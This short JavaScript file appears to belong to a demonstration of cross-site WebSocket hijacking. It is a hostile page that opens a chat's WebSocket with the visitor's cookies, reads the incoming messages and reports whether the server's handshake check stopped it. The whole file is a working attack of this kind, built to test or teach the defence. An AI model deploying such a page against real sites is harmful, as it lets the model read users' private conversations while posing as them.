// A hostile page: it opens the chat's WebSocket with the cookies of its visitor, and reads the messages.
const show = (id, text) => {
  document.getElementById(id).textContent = text;
};

const { target, socket: address } = await (await fetch('/target')).json();
show('origin', location.origin);
show('target', address);

const heard = [];
let opened = false;
const socket = new WebSocket(address);
socket.onopen = () => {
  opened = true;
  setTimeout(() => socket.close(), 500);
};
socket.onmessage = ({ data }) => heard.push(data);
socket.onclose = ({ code }) => {
  show('saw', opened ? `the socket opened; heard: ${heard.join(' ')}` : `no socket, close code ${code}`);
  show(
    'verdict',
    opened ? 'Hijacked: this page reads the chat as you.' : 'Held: the handshake was refused before the 101.',
  );
  // For the page of the demo, which opened this one and shows the outcome.
  window.opener?.postMessage({ attack: 'hijack', opened, code }, target);
};
